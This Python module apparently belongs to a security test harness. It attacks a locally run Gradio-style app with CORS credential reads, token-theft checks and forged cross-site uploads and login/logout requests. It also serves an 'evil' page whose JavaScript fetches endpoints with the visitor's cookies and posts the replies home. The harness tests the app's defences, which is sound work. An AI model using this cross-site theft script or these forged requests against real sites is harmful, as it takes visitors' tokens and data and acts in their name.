"""Pages of other sites: what they may read with their visitor's cookies, and what they may make the server do."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
from attacks.attack import attack
from attacks.chromium import log_in, opening
from attacks.results import Tally
from attacks.serving import ADA, DEFAULT, DOMAIN, LOGIN, NAMED, NAMED_LOGIN, Site
from attacks.visits import API, Visit
from attacks.watching import find_bytes

FOREIGN = ("https://evil.example", f"https://evil.{DOMAIN}", f"http://{DOMAIN}.evil.example", "null")
LOCAL = ("http://127.0.0.1:9", "http://localhost:9", "http://localhost", "http://0.0.0.0:9", "http://[::1]:9")
READ = ("/", "/config", "/health", f"{API}/info")


@attack(5, "read across sites (CORS with credentials): the reply names a foreign origin")
def read_across_sites(site: Site) -> Tally:
    opened, tries = [], 0
    for setup, host, origins in (
        (DEFAULT, "", (*LOCAL, *FOREIGN)),
        (NAMED, DOMAIN, (*FOREIGN, *LOCAL)),
        (NAMED_LOGIN, DOMAIN, FOREIGN),
    ):
        server = site.running(setup)
        own = {"Host": f"{host}:{server.port}"} if host else {}
        with Visit(server.address, site.new_client(), headers=own) as visitor:
            if setup is NAMED_LOGIN:
                visitor.login(ADA)
            for origin in origins:
                for path in READ:
                    tries += 1
                    if lets_read(visitor, path, origin):
                        opened.append(f"{origin} ({setup.name})")
    return Tally(tries, len(opened), ", ".join(dict.fromkeys(opened)))


def lets_read(visitor: Visit, path: str, origin: str) -> bool:
    """Whether a browser would give the reply to a page of that origin."""
    with visitor.http.stream("GET", visitor.base + path, headers={"Origin": origin}, timeout=10) as response:
        return response.headers.get("access-control-allow-origin") in (origin, "*")


@attack(5, "ask first (CORS preflight): a foreign origin may send JSON")
def preflight(site: Site) -> Tally:
    opened, tries = [], 0
    for setup, host, origins in ((DEFAULT, "", (*LOCAL, *FOREIGN)), (NAMED, DOMAIN, FOREIGN)):
        server = site.running(setup)
        own = {"Host": f"{host}:{server.port}"} if host else {}
        with Visit(server.address, site.new_client(), headers=own) as visitor:
            for origin in origins:
                tries += 1
                asked = {"Origin": origin, "Access-Control-Request-Method": "POST"}
                asked |= {"Access-Control-Request-Headers": "content-type"}
                response = visitor.http.options(f"{visitor.base}{API}/queue/join", headers=asked)
                if response.headers.get("access-control-allow-origin") in (origin, "*"):
                    opened.append(f"{origin} ({setup.name})")
    return Tally(tries, len(opened), ", ".join(opened))


@attack(5, "take the login's token to another site (/gradio_api/token)")
def take_token(site: Site) -> Tally:
    server = site.running(NAMED_LOGIN)
    taken = 0
    with Visit(server.address, site.new_client(), headers={"Host": f"{DOMAIN}:{server.port}"}) as visitor:
        visitor.login(ADA)
        secrets = set(visitor.http.cookies.values())
        for origin in FOREIGN[:2]:
            response = visitor.http.get(f"{visitor.base}{API}/token", headers={"Origin": origin})
            is_given = any(secret in response.text for secret in secrets)
            taken += is_given and response.headers.get("access-control-allow-origin") in (origin, "*")
    return Tally(2, taken)


@attack(5, "change things from another site: what a browser sends without asking first")
def change_across_sites(site: Site) -> Tally:
    worked = []
    server = site.running(DEFAULT)
    for origin in ("https://evil.example", "null", "http://localhost:9"):
        sent = {"Origin": origin, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
        with Visit(server.address, site.new_client()) as visitor:
            body = visitor.open().body("paste", {"title": "forged", "text": f"A forged document of {origin}."})
            body["session_hash"] = "forged"
            visitor.http.headers.update(sent)
            upload = f"forged by {origin}".encode()
            visitor.upload("forged.txt", upload)
            if find_bytes(server.received, upload):
                worked.append(f"upload ({origin})")
            for kind in ("text/plain", "application/x-www-form-urlencoded", ""):
                headers = {"Content-Type": kind} if kind else {}
                route = f"{visitor.base}{API}/queue/join"
                request = visitor.http.build_request("POST", route, content=json.dumps(body), headers=headers)
                if visitor.http.send(request).status_code == 200:
                    worked.append(f"queue/join as {kind or 'nothing'} ({origin})")
    return Tally(12, len(worked), ", ".join(worked))


@attack(5, "log somebody out, or in as somebody else, from another site")
def log_out_across_sites(site: Site) -> Tally:
    server = site.running(LOGIN)
    worked = []
    foreign = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
    with Visit(server.address, site.new_client()) as ada:
        ada.login(ADA)
        without_origin = {name: value for name, value in foreign.items() if name != "Origin"}
        cookies = {"Cookie": "; ".join(f"{name}={value}" for name, value in ada.http.cookies.items())}
        # An image's request names no origin, and brings the cookies only where they are for other sites as well.
        httpx.get(f"{server.address}/logout", headers={**without_origin, **cookies}, timeout=10)
        if ada.http.get(f"{ada.base}/config").status_code != 200:
            worked.append("logout")
    with Visit(server.address, site.new_client(), headers=foreign) as visitor:
        if visitor.login(ADA).status_code == 200:
            worked.append("login")
    return Tally(2, len(worked), ", ".join(worked))


# ---- in a real browser ----


@contextmanager
def evil_site(script: str) -> Iterator[tuple[int, list[dict[str, Any]]]]:
    """A page of another site on loopback, and what it told home."""
    told: list[dict[str, Any]] = []
    page = f"<!doctype html><title>evil</title><script>{script}</script>".encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self) -> None:
            told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], told
    finally:
        server.shutdown()
        server.server_close()


STEAL = """
(async () => {
  const tell = (value) => fetch("/told", { method: "POST", body: JSON.stringify(value) });
  const target = new URLSearchParams(location.search).get("target");
  for (const path of ["/config", "/gradio_api/info", "/gradio_api/token", "/health"]) {
    try {
      const reply = await fetch(target + path, { credentials: "include" });
      await tell({ path, status: reply.status, text: (await reply.text()).slice(0, 200) });
    } catch (error) { await tell({ path, error: String(error) }); }
  }
  try {
    const body = JSON.stringify({ data: ["Where did they meet?", null, null] });
    const headers = { "Content-Type": "application/json" };
    const reply = await fetch(target + "/gradio_api/call/ask", { method: "POST", body, headers, credentials: "include" });
    await tell({ path: "/ask", status: reply.status, text: (await reply.text()).slice(0, 200) });
  } catch (error) { await tell({ path: "/ask", error: String(error) }); }
  await tell({ path: "end" });
})();
"""


@attack(5, "read and ask from another site's page in Chromium, with the visitor's login", seconds=120)
def steal_in_browser(site: Site) -> Tally:
    worked, tries = [], 0
    with evil_site(STEAL) as (port, told), opening(f"MAP {DOMAIN} 127.0.0.1, MAP *.{DOMAIN} 127.0.0.1") as browser:
        cases = (
            (DEFAULT, "127.0.0.1", "localhost"),
            (DEFAULT, "127.0.0.1", "127.0.0.1"),
            (NAMED_LOGIN, DOMAIN, f"evil.{DOMAIN}"),
        )
        for setup, host, foreign in cases:
            server = site.running(setup)
            target = f"http://{host}:{server.port}"
            page = browser.new_context().new_page()
            page.goto(target)
            if setup is NAMED_LOGIN:
                log_in(page, ADA)
            told.clear()
            page.goto(f"http://{foreign}:{port}/?target={target}")
            page.wait_for_event("requestfinished", lambda request: "end" in (request.post_data or ""), timeout=30_000)
            page.context.close()
            tries += 5
            worked += [f"{each['path']} from {foreign}" for each in told if each.get("status") == 200]
    return Tally(tries, len(worked), ", ".join(worked))
